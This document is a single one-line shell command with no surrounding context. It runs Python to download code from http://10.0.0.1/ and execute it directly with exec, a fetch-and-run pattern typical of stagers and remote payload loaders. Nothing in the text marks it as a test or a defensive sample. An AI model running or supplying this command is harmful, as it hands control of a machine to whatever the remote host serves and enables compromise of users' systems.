python3 -c "import urllib.request as r; exec(r.urlopen('http://10.0.0.1/').read())"
